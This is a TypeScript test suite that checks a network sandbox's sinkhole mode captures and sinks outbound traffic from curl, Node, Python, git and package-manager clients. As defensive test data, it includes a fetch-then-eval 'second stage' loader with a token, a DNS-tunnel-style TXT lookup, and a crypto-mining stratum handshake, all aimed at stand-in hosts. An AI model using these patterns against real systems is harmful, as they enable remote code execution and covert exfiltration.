import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { createAuthority } from '../../src/capture/sinkhole/authority.js';
import { MAXIMUM_UNANSWERED } from '../../src/capture/sinkhole/read-out.js';
import { describeLab, type Lab, startLab } from '../lab/lab.js';
import { observe, type ReportedRun } from '../lab/report.js';

const node = (script: string): readonly string[] => ['node', '-e', script];
const python = (script: string): readonly string[] => ['python3', '-c', script];

/** What a client does, what it prints, and whom it has reached by the report. */
interface Client {
  readonly name: string;
  readonly command: readonly string[];
  readonly output: string;
  readonly host: string;
  readonly port: number;
  readonly protocol: string;
  readonly requests?: readonly object[];
}

const secure = { host: 'shop.example', port: 443, protocol: 'tls' } as const;
const plain = { host: 'shop.example', port: 80, protocol: 'http' } as const;
const GET = { method: 'GET', path: '/a', host: 'shop.example', status: 200 };

const CLIENTS: readonly Client[] = [
  {
    name: 'curl, https',
    command: [
      'curl',
      '-sS',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code} %{http_version}',
      'https://shop.example/a',
    ],
    output: '200 2',
    ...secure,
    requests: [GET],
  },
  {
    name: 'curl, https, with an environment that it has emptied',
    command: ['env', '-i', 'curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', 'https://shop.example/a'],
    output: '200',
    ...secure,
    requests: [GET],
  },
  {
    name: 'curl, http',
    command: ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', 'http://shop.example/a'],
    output: '200',
    ...plain,
    requests: [GET],
  },
  {
    name: 'node fetch',
    command: node(
      "fetch('https://shop.example/a', { method: 'POST', body: 'secret' }).then((a) => console.log(a.status))",
    ),
    output: '200\n',
    ...secure,
    requests: [{ ...GET, method: 'POST', bodyBytes: 6, body: null }],
  },
  {
    name: 'node https',
    command: node(
      "require('https').get('https://shop.example/a', (a) => console.log(a.resume().statusCode))",
    ),
    output: '200\n',
    ...secure,
    requests: [GET],
  },
  {
    name: 'node http2',
    command: node(
      "const s = require('http2').connect('https://shop.example'); const r = s.request({ ':path': '/a' }); r.on('response', (h) => console.log(h[':status'])); r.resume(); r.on('end', () => s.close())",
    ),
    output: '200\n',
    ...secure,
    requests: [GET],
  },
  {
    name: 'python urllib',
    command: python("import urllib.request; print(urllib.request.urlopen('https://shop.example/a').status)"),
    output: '200\n',
    ...secure,
    requests: [GET],
  },
  {
    name: 'an address without a name',
    command: ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', 'http://198.51.100.10/a'],
    output: '200',
    host: '198.51.100.10',
    port: 80,
    protocol: 'http',
    requests: [{ ...GET, host: '198.51.100.10' }],
  },
  {
    name: 'an IPv6 address',
    command: ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', 'http://[2001:db8:51::30]/a'],
    output: '200',
    host: '2001:db8:51::30',
    port: 80,
    protocol: 'http',
    requests: [{ ...GET, host: '2001:db8:51::30' }],
  },
  {
    name: 'a raw TCP client',
    command: python(
      'import socket; s = socket.create_connection((\'mine.example\', 4444)); s.sendall(b\'{"method":"mining.subscribe"}\\n\'); s.shutdown(1); print(s.recv(9))',
    ),
    output: "b''\n",
    host: 'mine.example',
    port: 4444,
    protocol: 'stratum',
  },
  {
    name: 'ldap',
    command: python(
      "import socket; s = socket.create_connection(('dir.example', 1389)); s.sendall(bytes.fromhex('300c020101600702010304008000')); s.shutdown(1); print(s.recv(9))",
    ),
    output: "b''\n",
    host: 'dir.example',
    port: 1389,
    protocol: 'ldap',
  },
  {
    name: 'smtp',
    command: python("import smtplib; print(smtplib.SMTP('mail.example').sock is not None)"),
    output: 'True\n',
    host: 'mail.example',
    port: 25,
    protocol: 'none',
  },
];

/** Clients that look first at a variable of their own, which a caller may have set to a bundle of its own. */
const BUNDLE_CLIENTS: readonly {
  readonly variable: string;
  readonly command: readonly string[];
  /** Python's module, without which there is nothing to try. */
  readonly module?: string;
}[] = [
  {
    variable: 'npm_config_cafile',
    command: ['npm', 'ping', '--registry=https://packages.example/', '--fetch-retries=0'],
  },
  {
    variable: 'SSL_CERT_FILE',
    command: python("import urllib.request; urllib.request.urlopen('https://packages.example/')"),
  },
  {
    variable: 'REQUESTS_CA_BUNDLE',
    command: python("import requests; requests.get('https://packages.example/')"),
    module: 'requests',
  },
  {
    variable: 'PIP_CERT',
    command: [
      // Where these are set, pip heeds them instead.
      ...['env', '-u', 'REQUESTS_CA_BUNDLE', '-u', 'CURL_CA_BUNDLE', 'PIP_CONFIG_FILE=/dev/null'],
      ...['python3', '-m', 'pip', 'download', '--retries=0', '--no-cache-dir', '--disable-pip-version-check'],
      ...['--index-url=https://packages.example/', 'left'],
    ],
    module: 'pip',
  },
  { variable: 'CURL_CA_BUNDLE', command: ['curl', '-sS', 'https://packages.example/'] },
];

describeLab('mode sinkhole', () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await startLab();
  });
  afterAll(() => lab?.stop());
  // The promise of the mode, after whatever a test has tried.
  afterEach(async () =>
    expect(await lab.log()).toMatchObject({
      dns: [],
      foreignDns: [],
      http: [],
      wire: { flows: [], missed: 0 },
    }),
  );

  const sink = (
    command: readonly string[],
    args: readonly string[] = [],
    uid?: number,
    env: NodeJS.ProcessEnv = {},
  ): Promise<ReportedRun> =>
    observe(lab, command, {
      args: ['--mode', 'sinkhole', ...args],
      env,
      ...(uid === undefined ? {} : { uid }),
    });

  test.for(CLIENTS)('$name', async ({ command, output, host, port, protocol, requests = [] }) => {
    const run = await sink(command);
    expect(run.stdout, run.stderr).toBe(output);
    expect(run.report.capture).toMatchObject({ verdict: 'complete', counts: { unattributed: 0 } });
    expect(run.to(host).filter((to) => to.port !== null)).toMatchObject([
      { port, protocol, verdict: 'sunk', connections: 1, failures: [] },
    ]);
    expect(run.report.requests).toMatchObject(requests);
    expect(run.report.requests).toHaveLength(requests.length);
  });

  test('as an ordinary user', async () => {
    const run = await sink(
      ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', 'https://shop.example/a'],
      [],
      1001,
    );
    expect(run.stdout, run.stderr).toBe('200');
    expect(run.to('shop.example')).toMatchObject([{ verdict: 'sunk' }]);
  });

  test('of what nobody answers no more is read than the bound', async () => {
    const run = await sink(
      python(`
import socket
s = socket.create_connection(('bulk.example', 4444))
try:
    for _ in range(16): s.sendall(bytes(1 << 20))
    print('took all')
except OSError: print('ended')`),
    );
    expect(run.stdout, run.stderr).toBe('ended\n');
    const [bulk] = run.to('bulk.example').filter(({ port }) => port !== null);
    expect(bulk?.bytesSent).toBeGreaterThanOrEqual(MAXIMUM_UNANSWERED);
    expect(bulk?.bytesSent).toBeLessThan(2 * MAXIMUM_UNANSWERED);
  });

  test('git over https', async () => {
    const run = await sink(['git', 'ls-remote', 'https://code.example/project.git']);
    // An empty answer is an empty repository of the old protocol.
    expect(run).toMatchObject({ code: 0, stdout: '' });
    expect(run.report.requests).toMatchObject([
      { host: 'code.example', path: '/project.git/info/refs?service=[15 B]', status: 200 },
      { host: 'code.example', path: '/project.git/HEAD', status: 200 },
    ]);
  });

  test('names: A has an address, others no data, a search expansion no name; another resolver is no way out', async () => {
    const script = `
      const dns = require('dns').promises;
      const other = new dns.Resolver(); other.setServers(['198.51.100.54']);
      const say = (work) => work.then((a) => console.log(JSON.stringify(a)), (e) => console.log(e.code));
      (async () => {
        await say(dns.resolveTxt('secret.tunnel.example'));
        await say(dns.resolve6('shop.example'));
        await say(other.resolve4('shop.example'));
        await say(dns.resolve4('shop.example.corp.lab.example'));
        await say(dns.resolve4('hosted.lab.example'));
      })()`;
    const run = await sink(node(script));
    expect(run.stdout.trim().split('\n')).toEqual([
      'ENODATA',
      'ENODATA',
      '["198.18.0.1"]',
      'ENOTFOUND',
      '["198.51.100.30"]',
    ]);
    expect(run.report.dns.map(({ name, type, verdict }) => `${name} ${type} ${verdict}`)).toEqual(
      expect.arrayContaining([
        'secret.tunnel.example TXT sunk',
        'shop.example AAAA sunk',
        'shop.example A sunk',
        'hosted.lab.example A sunk',
      ]),
    );
    expect(run.to('secret.tunnel.example')).toMatchObject([{ port: null, verdict: 'sunk' }]);
    expect(run.to('198.51.100.54')).toMatchObject([{ port: 53, protocol: 'dns', verdict: 'sunk' }]);
  });

  test('datagrams are recorded and go nowhere', async () => {
    const script =
      "const s = require('dgram').createSocket('udp4'); s.send('ping', 7, '198.51.100.30', () => setTimeout(() => s.close(), 200)); s.on('message', () => console.log('answered'))";
    const run = await sink(node(script));
    expect(run.stdout).toBe('');
    expect(run.to('hosted.lab.example')).toMatchObject([
      { port: 7, transport: 'udp', bytesSent: 4, verdict: 'sunk' },
    ]);
    expect(run.report.capture.verdict).toBe('complete');
  });

  test("the host's loopback is closed, the sandbox's own is not", async () => {
    const script = `
      const net = require('net');
      net.connect(5432, '127.0.0.1').on('error', (e) => console.log(e.code));
      const own = net.createServer((s) => s.end('own')).listen(0, '127.0.0.1', () =>
        net.connect(own.address().port, '127.0.0.1').on('data', (d) => { console.log(String(d)); own.close(); }));`;
    const run = await sink(node(script));
    expect(run.stdout.trim().split('\n').sort()).toEqual(['ECONNREFUSED', 'own']);
    expect(run.to('localhost')).toMatchObject([{ port: 5432, verdict: 'sunk', failures: ['ECONNREFUSED'] }]);
  });

  test('a client that trusts nobody is recorded as such', async () => {
    const other = join(lab.folder, 'pinned.pem');
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:P-256',
        '-nodes',
        '-subj',
        '/CN=other',
        '-keyout',
        '/dev/null',
        '-out',
        other,
      ],
      { stdio: 'ignore' },
    );
    const curl = await sink(['curl', '-s', '--cacert', other, 'https://pinned.example/']);
    expect(curl.to('pinned.example')).toMatchObject([{ protocol: 'tls', failures: ['ECERTREFUSED'] }]);
    const client = await sink([
      'env',
      '-u',
      'NODE_EXTRA_CA_CERTS',
      ...node("fetch('https://pinned.example/').catch(() => {})"),
    ]);
    expect(client.to('pinned.example')).toMatchObject([{ protocol: 'tls', failures: ['ENOREQUEST'] }]);
  });

  test.for(BUNDLE_CLIENTS)(
    'a client whose caller has set $variable trusts the authority',
    async ({ variable, command, module }, { skip }) => {
      const isThere = module === undefined || spawnSync('python3', ['-c', `import ${module}`]).status === 0;
      skip(!isThere, `needs Python's ${module}`);
      const own = join(lab.folder, 'own.pem');
      writeFileSync(own, createAuthority(new Date()).certificate);
      const run = await sink(command, [], undefined, { [variable]: own });
      const [request] = run.report.requests ?? [];
      expect(request, run.stderr).toMatchObject({ host: 'packages.example', protocol: 'tls', status: 200 });
      expect(run.to('packages.example').flatMap(({ failures }) => failures)).toEqual([]);
    },
  );

  test('recorded answers, and what a request says where it is asked for', async () => {
    const answers = join(lab.folder, 'answers.json');
    writeFileSync(
      answers,
      JSON.stringify([
        { host: 'stage.example', path: '/two?key=t0p', status: 200, body: 'console.log("second stage")' },
      ]),
    );
    const script = join(lab.folder, 'stage.cjs');
    writeFileSync(
      script,
      "fetch('https://stage.example/two?key=t0p', { headers: { 'x-token': 't0p' } }).then((a) => a.text()).then((text) => eval(text))",
    );
    const revealed = await sink(['node', script], ['--answers', answers, '--reveal']);
    expect(revealed.stdout).toBe('second stage\n');
    expect(readFileSync(revealed.database, 'latin1')).toContain('t0p');
    const [shown] = revealed.report.requests ?? [];
    expect(shown?.path).toBe('/two?key=t0p');
    expect(shown?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: 't0p' });
    const hidden = await sink(['node', script], ['--answers', answers]);
    expect(hidden.stdout).toBe('second stage\n');
    const [redacted] = hidden.report.requests ?? [];
    expect(redacted?.path).toBe('/two?key=[3 B]');
    expect(redacted?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: null });
    expect(hidden.stderr).toContain('GET https://stage.example/two?key=[3 B]');
    const kept = [hidden.stderr, JSON.stringify(hidden.report), readFileSync(hidden.database, 'latin1')];
    for (const text of kept) expect(text).not.toContain('t0p');
  });

  test('wrong usage is refused before anything runs', async () => {
    const file = join(lab.folder, 'broken.json');
    writeFileSync(file, '[{"host":"x.example"}]');
    for (const args of [
      ['--mode', 'sinkhole', '--answers', file],
      ['--reveal'],
      ['--mode', 'sinkhole', '--registry', 'x'],
    ]) {
      const output = await lab.egresslock(['run', ...args, '--', 'echo', 'ran']);
      expect(output).toMatchObject({ code: 2, stdout: '' });
    }
  });
});
